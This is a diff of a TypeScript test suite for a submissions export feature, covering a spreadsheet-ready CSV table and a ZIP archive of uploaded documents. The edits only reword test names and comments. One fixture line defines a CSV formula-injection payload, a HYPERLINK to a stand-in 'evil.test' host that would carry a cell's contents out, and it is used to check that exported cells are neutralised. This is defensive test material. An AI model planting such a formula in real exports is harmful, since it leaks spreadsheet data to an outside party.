@@ -12,7 +12,7 @@ import { walkTo } from '../walk.ts'
 import { idOf, ownerOf, referenceOf, seed } from './seed.ts'
 import { shortlistings } from '../../../server/platform/database/schema/submissions.ts'
 
-/** What leaves the desk: a table for spreadsheets, and the documents in an archive. */
+/** Exports from the desk: a table for spreadsheets, and an archive of the documents. */
 
 const FORMULA = '=HYPERLINK("https://evil.test/?"&A1)'
 const MANY = 60
@@ -56,7 +56,7 @@ beforeAll(async () => {
 })
 afterAll(() => server.close())
 
-/** A table as RFC 4180 has it. */
+/** Parses CSV as in RFC 4180. */
 function cellsOf(csv: string): string[][] {
   const rows: string[][] = [[]]
   for (const [, end = '', quoted, plain = ''] of csv.matchAll(/(^|,|\r\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)) {
@@ -74,7 +74,7 @@ async function tableOf(query = '') {
 }
 
 describe('the table', () => {
-  test('opens right in a spreadsheet: UTF-8 by its mark, one line per application, nothing taken for a formula', async () => {
+  test('opens correctly in a spreadsheet: UTF-8 with a byte order mark, one line per application, no formulas', async () => {
     const { answer, headers, rows, records } = await tableOf()
     expect(answer.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]))
     expect(answer.headers).toMatchObject({
@@ -107,14 +107,14 @@ describe('the table', () => {
     for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
   })
 
-  test('has what the filter leaves, in its order, across the pages that it is read in', async () => {
+  test('has the filtered applications in order, across the pages it is read in', async () => {
     const { records } = await tableOf('?institution=many&sort=submittedAt&order=desc')
     const references = records.map((record) => record['Reference'])
     expect(references).toHaveLength(MANY)
     expect(references).toEqual([...new Set(references)].toSorted().toReversed())
   })
 
-  test('tells the audit trail of every application in it', async () => {
+  test('records every application in it in the audit trail', async () => {
     const { answer } = await tableOf('?institution=many')
     const told = await entriesOfCall(server.db, answer.headers['x-request-id'])
     expect(told).toHaveLength(MANY)
@@ -130,7 +130,7 @@ describe('the archive', () => {
     return { answer, files: unzipSync(new Uint8Array(answer.rawPayload)) }
   }
 
-  test('has the documents in a folder per reference, as they were uploaded', async () => {
+  test('has the uploaded documents in a folder per reference', async () => {
     const { answer, files } = await archiveOf(`?text=${submitted.reference}`)
     const names = DOCUMENTS.map(({ kind }) => `${submitted.reference}/${kind} my_${kind}.pdf`)
     expect(Object.keys(files).toSorted()).toEqual(names.toSorted())
@@ -142,7 +142,7 @@ describe('the archive', () => {
     ])
   })
 
-  test('says at its end what it has not, and why; the rest is there', async () => {
+  test('lists missing documents with the reason at its end, and has the rest', async () => {
     const { files } = await archiveOf(`?text=PB-2030-ODD`)
     expect(Object.keys(files)).toEqual(['not-included.txt'])
     const lines = strFromU8(files['not-included.txt'] ?? new Uint8Array())
@@ -156,7 +156,7 @@ describe('the archive', () => {
     for (let index = 0; index < count; index += 1) yield { name: `${index}`, open: () => Buffer.from('x') }
   }
 
-  test('may hold more files than the first kind of ZIP archive could', async () => {
+  test('supports more files than ZIP without ZIP64', async () => {
     const count = 70_000
     const archive = await fromBufferPromise(await buffer(zipOf(filesOf(count))), { autoClose: false })
     expect(archive.entryCount).toBe(count)
@@ -165,7 +165,7 @@ describe('the archive', () => {
     expect(names.size).toBe(count)
   })
 
-  test('does not keep the pieces of its directory waiting for a slow reader', async () => {
+  test('does not hold its directory entries back for a slow reader', async () => {
     const archive = zipOf(filesOf(2_000)) as Duplex
     const waiting: number[] = []
     for await (const _ of archive) {
